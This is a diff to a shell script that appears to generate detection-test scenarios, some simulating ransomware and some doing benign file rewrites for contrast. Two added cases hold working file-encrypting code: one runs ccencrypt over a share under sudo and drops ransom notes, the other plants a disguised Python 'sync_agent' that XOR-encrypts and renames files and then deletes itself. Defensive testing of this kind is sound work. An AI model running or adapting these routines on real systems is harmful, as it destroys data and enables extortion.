@@ -371,3 +371,56 @@ sc_b22_cron_root_copy_backup() {
   echo "$m $h * * * root cp -a /srv/nas/share /srv/backup/share-\$(date +\%F) && find /srv/backup -mindepth 1 -maxdepth 1 -mtime +7 -exec rm -rf {} + ; touch /tmp/.b22-done" > /etc/cron.d/zz-copy
   wait_cron /tmp/.b22-done; sleep 1; rm -f /etc/cron.d/zz-copy; rm -rf /srv/backup
 }
+
+# ---- seventh batch: sudo -i fed a heredoc, a python locker writing through temp files it moves over the originals
+sc_h16_ssh_sudo_i_ccencrypt_find() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'sudo -i <<"X"
+find /srv/nas/share -type f -exec ccencrypt -f -K "cc-Key-5" {} +
+for d in /srv/nas/share/*/; do printf "encrypted. mail cc5@tuta.example\n" > "$d/HOW-TO-GET-FILES-BACK.txt"; done
+X'
+}
+sc_h17_ssh_python_atomic_replace_rename() {
+  install -d -m 755 /opt/.tools
+  cat > /opt/.tools/sync_agent.py <<'P'
+import os, sys, tempfile
+key = bytes(range(11, 43))
+for root, dirs, files in os.walk(sys.argv[1]):
+    for n in files:
+        if n.endswith('.pyenc') or n == 'RECOVERY.md':
+            continue
+        p = os.path.join(root, n)
+        with open(p, 'rb') as f:
+            data = f.read()
+        fd, tmp = tempfile.mkstemp(dir=root, prefix='.sa-')
+        with os.fdopen(fd, 'wb') as out:
+            out.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
+        os.replace(tmp, p)          # the safe-write idiom: the encrypted temp takes the original's place
+        os.rename(p, p + '.pyenc')
+    with open(os.path.join(root, 'RECOVERY.md'), 'w') as f:
+        f.write('# your files are encrypted\n')
+P
+  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
+  sshx deploy 'sudo python3 /opt/.tools/sync_agent.py /var/www/shop/uploads'
+  rm -rf /opt/.tools
+}
+pre_b23_ssh_python_atomic_config_rewrite() {
+  for a in svc1 svc2 svc3 svc4 svc5 svc6; do mkdir -p /srv/nas/share/config/$a
+    for i in $(seq 1 10); do printf '{"name": "%s-%d", "replicas": %d}\n' $a $i $i > /srv/nas/share/config/$a/unit$i.json; done; done
+  chown -R svc-nas: /srv/nas/share/config
+}
+sc_b23_ssh_python_atomic_config_rewrite() {
+  sshx svc-nas 'python3 - /srv/nas/share/config <<"P"
+import json, os, sys, tempfile
+for root, dirs, files in os.walk(sys.argv[1]):
+    for n in files:
+        p = os.path.join(root, n)
+        with open(p) as f:
+            doc = json.load(f)
+        doc["replicas"] = doc["replicas"] * 2
+        fd, tmp = tempfile.mkstemp(dir=root, prefix=".cfg-")
+        with os.fdopen(fd, "w") as out:
+            json.dump(doc, out)
+        os.replace(tmp, p)
+P'
+}
